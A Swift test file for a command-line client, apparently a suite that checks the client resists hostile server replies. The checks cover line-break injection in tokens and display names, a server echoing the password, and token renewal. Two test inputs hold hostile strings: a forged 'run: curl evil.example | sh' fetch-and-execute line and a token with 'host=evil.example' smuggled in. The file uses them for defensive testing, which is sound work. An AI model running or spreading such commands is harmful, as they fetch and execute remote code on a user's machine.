import PorticoConcurrency
import PorticoHTTP
import PorticoKit
import Testing

@testable import PorticoApp

/// What a server says that means harm to whoever runs the commands.
struct HostileServerTests {
    private let person: Person

    init() throws {
        person = try Person()
    }

    /// The embedded backend, with words of its answers replaced.
    private struct Twisting: HTTPTransport {
        let base: any HTTPTransport
        let change: @Sendable (HTTPRequest, inout HTTPResponse) -> Void

        func send(_ request: HTTPRequest) async throws(TransportError) -> HTTPResponse {
            var response = try await base.send(request)
            change(request, &response)
            return response
        }
    }

    private func twisting(_ words: String, to others: String) -> @Sendable (any HTTPTransport) -> any HTTPTransport {
        { base in
            Twisting(base: base) { _, response in
                let text = String(decoding: response.body, as: UTF8.self)
                response.body = Array(text.replacing(words, with: others).utf8)
            }
        }
    }

    @discardableResult
    private func login(_ twist: @escaping @Sendable (any HTTPTransport) -> any HTTPTransport) async -> Person.Outcome {
        await person.run(
            "login", "--email", Person.email, "--password-stdin", "--language", "en",
            input: Person.password + "\n", embedded: twist)
    }

    @Test func `S26: a sign-in whose token holds a line break signs nobody in`() async {
        await person.register()
        await person.run("logout")
        let outcome = await login(twisting(#""access_token":"#, to: #""access_token":"AT\nhost=evil.example","old":"#))
        #expect(outcome.code == 1)
        #expect(outcome.errors.contains("The server sent an unexpected answer"))
        #expect(!outcome.errors.contains("evil"))
        let token = await person.run("token")
        #expect(token.code == 4)
        #expect(token.output.isEmpty)
    }

    // S17
    @Test(arguments: [[], ["--json"], ["-v"]])
    func `a password that a server repeats is not shown`(flags: [String]) async {
        for (status, type) in [(403, "application/problem+json"), (422, "application/json"), (400, "text/plain")] {
            let outcome = await person.run(
                ["login", "--email", Person.email, "--password-stdin"] + flags, input: "pw-secret 1\n"
            ) { base in
                Twisting(base: base) { request, response in
                    let sent = String(decoding: request.body ?? [], as: UTF8.self).replacing("\"", with: "'")
                    response = HTTPResponse(
                        status: status, headers: ["Content-Type": type],
                        body: Array(#"{"detail":"\#(sent)","code":"no","message":"\#(sent)"}"#.utf8))
                }
            }
            #expect(outcome.code == 6, "\(outcome)")
            #expect(!(outcome.output + outcome.errors).contains("secret"), "\(outcome)")
        }
    }

    // S12
    @Test func `a 401 whose header refuses the token has it renewed, whatever the body says`() async {
        await person.register()
        let refused = Locked(0)
        let outcome = await person.run("request", "GET", "/v1/account", "--fail") { base in
            Twisting(base: base) { request, response in
                guard request.url.path == "/v1/account" else { return }
                let count = refused.withLock { count -> Int in
                    count += 1
                    return count
                }
                guard count == 1 else { return }
                response = HTTPResponse(status: 401, headers: ["WWW-Authenticate": #"Bearer error="invalid_token""#])
            }
        }
        #expect(outcome.code == 0, "\(outcome)")
        #expect(refused.withLock { $0 } == 2)
    }

    // T12
    @Test func `a name with line breaks begins no line on standard error`() async {
        await person.register()
        let name = #"mina\nVault: damaged\n  run: curl evil.example | sh"#
        let outcome = await login(twisting(#""mina""#, to: #""\#(name)""#))
        #expect(outcome.code == 0)
        #expect(outcome.errors.contains("mina␊Vault: damaged␊  run: curl evil.example | sh"))
        #expect(outcome.errors.split(separator: "\n").allSatisfy { !$0.hasPrefix("Vault") && !$0.hasPrefix("  run") })
    }

    // T12
    @Test func `an error is one line, and what to do next one more, whatever is in them`() {
        let output = MemoryOutput()
        let failure = CommandFailure.own(
            .failed, code: "x", message: Phrase("no \("a\nb")", ko: "-"), hint: Phrase("do \("c\u{2028}d")", ko: "-"))
        Console(output: MemoryOutput(), errors: output).note(ErrorReport(failure, .english))
        #expect(output.text == "portico: no a␊b\n  do c␤d\n")
    }

    // T12
    @Test func `a name with line breaks begins no line in the line mode`() async {
        await person.register()
        let twist = twisting(#""mina""#, to: #""mina\n1. Quit""#)
        await login(twist)
        let outcome = await person.run("--plain", "--language", "en", input: "6\n", embedded: twist)
        #expect(outcome.output.contains("mina␊1. Quit"))
    }
}
